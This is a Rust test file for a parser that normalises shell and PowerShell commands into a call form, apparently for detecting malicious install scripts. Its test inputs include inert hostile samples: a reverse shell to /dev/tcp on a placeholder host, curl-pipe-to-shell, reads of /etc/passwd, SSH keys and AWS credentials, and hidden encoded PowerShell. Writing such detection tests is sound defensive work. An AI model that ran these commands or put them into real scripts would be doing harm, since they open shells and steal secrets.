//! What scripts become. Every sample is inert.

use proptest::prelude::*;

use super::show::show;
use crate::ir::Names;

fn lowered(source: &str) -> String {
    let mut names = Names::default();
    let program = super::lower(source, &mut names);
    assert_eq!(program.expressions.len(), program.offsets.len());
    show(&program, &names)
}

macro_rules! lowers {
    ($($name:ident: $($source:expr => $expected:expr),+ $(,)?;)*) => {
        $(#[test]
        fn $name() {
            $(assert_eq!(lowered($source), $expected, "{}", $source);)+
        })*
    };
}

lowers! {
    a_command_is_a_call:
        "curl -s https://a.invalid/x" => r#"curl("-s", "https://a.invalid/x")"#,
        "/usr/bin/curl 'a b' \"c d\" e\\ f" => r#"curl("a b", "c d", "e f")"#,
        "c\"ur\"l \\-s $'\\x61b'" => r#"curl("-s", "ab")"#,
        "CURL.EXE x # comment" => r#"curl("x")"#,
        "a; b && c & d\ne" => "a(); b(); c(); d(); e()",
        "cat${IFS}/etc/passwd" => r#"cat("/etc/passwd")"#,
        "{curl,-s,x}" => r#"curl("-s", "x")"#;

    variables_are_the_scripts_or_the_environments:
        "echo $HOME/x ${A:-b}" => r#"echo(<env.HOME, "/x">, (env.A Either "b"))"#,
        "A=$(whoami); echo \"$A!\"" => r#"A = whoami(); echo(<A, "!">)"#,
        "c=curl; $c x" => r#"c = "curl"; curl("x")"#,
        "A=b node x.js" => r#"A = "b"; node("x.js")"#,
        "A=abcdef; echo ${HOME:1:3}" => r#"A = "abcdef"; echo(env.HOME[1:4])"#,
        "echo `id -u`" => r#"echo(id("-u"))"#,
        "$X -s" => r#"(command)(env.X, "-s")"#,
        "echo %APPDATA%\\x" => r#"echo(<env.APPDATA, "\\x">)"#,
        "date +%Y%m%d" => r#"date("+%Y%m%d")"#;

    pipes_hand_on_what_is_printed:
        "curl x | sh" => r#"sh(stdin=curl("x"))"#,
        "cat a | base64 -d | bash" => r#"bash(stdin=base64.decode("-d", stdin=cat("a")))"#,
        "sh -c \"$(curl x)\"" => r#"sh("-c", curl("x"))"#,
        "bash <(curl x)" => r#"bash(stdin=curl("x"))"#,
        "(env; cat a) | curl -d @- u" =>
            r#"|2 = ""; {|2 Add= env(); |2 Add= cat("a")}; curl("-d", |2, "u", stdin=|2)"#,
        "cat a | while read l; do curl $l; done" => r#"|1 = cat("a"); loop ?() {l = |1; curl(l, stdin=|1)}"#,
        "xargs -n1 curl < urls" => r#"curl(<("urls"))"#,
        "sh <<EOF\necho $A\nEOF\nls" => r#"sh(stdin=<"echo ", env.A, "\n">); ls()"#,
        "python3 - <<'E'\nimport os\nE" => r#"python3(stdin="import os\n")"#;

    redirections_are_writes:
        "echo x > f" => r#">("f", echo("x"))"#,
        "echo x >> ~/.bashrc" => r#">>("~/.bashrc", echo("x"))"#,
        "a > /dev/null 2>&1" => "a()",
        "a > /dev/null 2>&1 &" => "&(a())",
        "(a; b) &>/dev/null &" => "a(); b(); &()",
        "bash -i >& /dev/tcp/h.invalid/80 0>&1" => r#"/dev/tcp("h.invalid", "80"); bash()"#,
        "{ a; b; } > f" => r#"|2 = ""; {|2 Add= a(); |2 Add= b()}; >("f", |2)"#;

    wrappers_come_off:
        "sudo -u root env A=b nohup curl x" => r#"A = "b"; nohup(); curl("x")"#,
        "timeout -k 5 10 wget x" => r#"wget("x")"#,
        "command -v node" => r#"which("node")"#,
        "env" => "env()",
        "npx -y thing" => r#"npx("-y", "thing")"#,
        "start \"\" /b calc.exe" => "calc()";

    options_become_part_of_the_path:
        "chmod +x a && chmod 755 b && chmod 600 c" => r#"chmod.x("+x", "a"); chmod.x("755", "b"); chmod("600", "c")"#,
        "gh auth token" => "gh.auth.token()",
        "aws --profile p secretsmanager get-secret-value --secret-id x" =>
            r#"aws.secretsmanager.get-secret-value("--profile", "p", "--secret-id", "x")"#,
        "git clone https://a.invalid/b" => r#"git.clone("https://a.invalid/b")"#,
        "certutil -urlcache -split -f https://a.invalid f" =>
            r#"certutil.urlcache("-split", "-f", "https://a.invalid", "f")"#,
        "openssl enc -d -aes256 -in x" => r#"openssl.decode("enc", "-d", "-aes256", "-in", "x")"#,
        "tar xzf a.tgz" => r#"tar.decode("xzf", "a.tgz")"#,
        "find / -name id_rsa -exec cat {} \\;" =>
            r#"cat(find("/", "-name", "id_rsa")); find("/", "-name", "id_rsa", "-exec", "cat", "{}", ";")"#,
        "curl --data=@/etc/passwd --output=f u" =>
            r#">("f", curl("--data", <("/etc/passwd"), "--output", "f", "u"))"#,
        "curl -sSLo a https://h.invalid/b; wget -qO- u; wget https://h.invalid/b" =>
            r#">("a", curl("-sSLo", "a", "https://h.invalid/b")); wget("-qO-", "u"); >("./b", wget("https://h.invalid/b"))"#,
        "cat -n a b; grep -r key ~/.aws | head -n 1" =>
            r#"<cat("a"), cat("b")>; head("-n", "1", stdin=grep("-r", "key", <("~/.aws")))"#,
        "yarn publish" => "yarn.publish()";

    interpreters_are_canonical:
        "bash -lc 'echo hi' a" => r#"bash("-c", "echo hi", "a")"#,
        "node --max-old-space-size=99 x.js y" => r#"node("x.js", "y")"#,
        "node -r ./a.js b.js" => r#"node("b.js", ?((file)("./a.js")))"#,
        "node --eval='1'" => r#"node("-e", "1")"#,
        "bun run setup.mjs" => r#"bun("setup.mjs")"#,
        "python3.11 -m http.server" => r#"python3("-m", "http.server")"#,
        "./install.sh a; ./bin/tool; . ./env.sh" =>
            r#"sh("./install.sh", "a"); (file)("./bin/tool"); source("./env.sh")"#,
        "cat x | node y.js" => r#"node("y.js", data=cat("x"))"#,
        "powershell -NoP -w hidden -enc QQA=" =>
            r#"powershell("-command", frombase64utf16("QQA="), (hidden)())"#,
        "powershell.exe -ExecutionPolicy Bypass -File x.ps1" => r#"powershell("x.ps1")"#,
        "cmd /c curl x & del y" => r#"cmd("/c", "curl x"); del("y")"#;

    statements:
        "if [ \"$CI\" = true ]; then a; elif [ -z $B ]; then b; else c; fi" =>
            r#"if (env.CI Equal "true") {a()} else {if (env.B Equal "") {b()} else {c()}}"#,
        "[ -n \"$CI\" ] && exit 0 || b" => r#"if (env.CI NotEqual "") {exit("0")}; b()"#,
        "for f in a b; do rm $f; done" => r#"each f in ["a", "b"] {rm(f)}"#,
        "case $(uname) in Linux|Darwin) a;; *) b;; esac" =>
            r#"if ((uname() Equal "Linux") Either (uname() Equal "Darwin")) {a()} else {b()}"#,
        "f() { curl $1; }; f x" => r#"fn f(1, 2, 3, 4, 5, 6, 7, 8, 9) {return curl(1)}; f("x")"#,
        "until false; do a; done" => "loop Not false {a()}",
        "if exist x (del x) else (echo no)" => r#"if ?() {del("x")} else {echo("no")}"#,
        "trap 'rm x' EXIT" => r#"{rm("x")}"#,
        "eval \"$(curl x)\" y" => r#"eval(<curl("x"), " y">)"#;
}

#[test]
fn offsets_are_those_of_the_source() {
    let mut names = Names::default();
    let program = super::lower("a\n  curl x", &mut names);
    assert!(program.offsets.contains(&4));
}

#[test]
fn deep_and_long_scripts_end() {
    for piece in
        ["$(", "(", "{ ", "`", "\"$(", "${a:-", "if a; then ", "<(", "((", "[[ a && ", "! ", "a | ", "case x in a) "]
    {
        super::lower(&piece.repeat(20_000), &mut Names::default());
    }
}

proptest! {
    #[test]
    fn nothing_panics(source in r#"([a-z$(){}`'"|&;<>\\ \n=%\[\]!#:/-]|EOF|<<|if |then |fi|do |done|for |in |case |esac|/dev/tcp/|curl |sh -c |é){0,60}"#) {
        lowered(&source);
    }
}
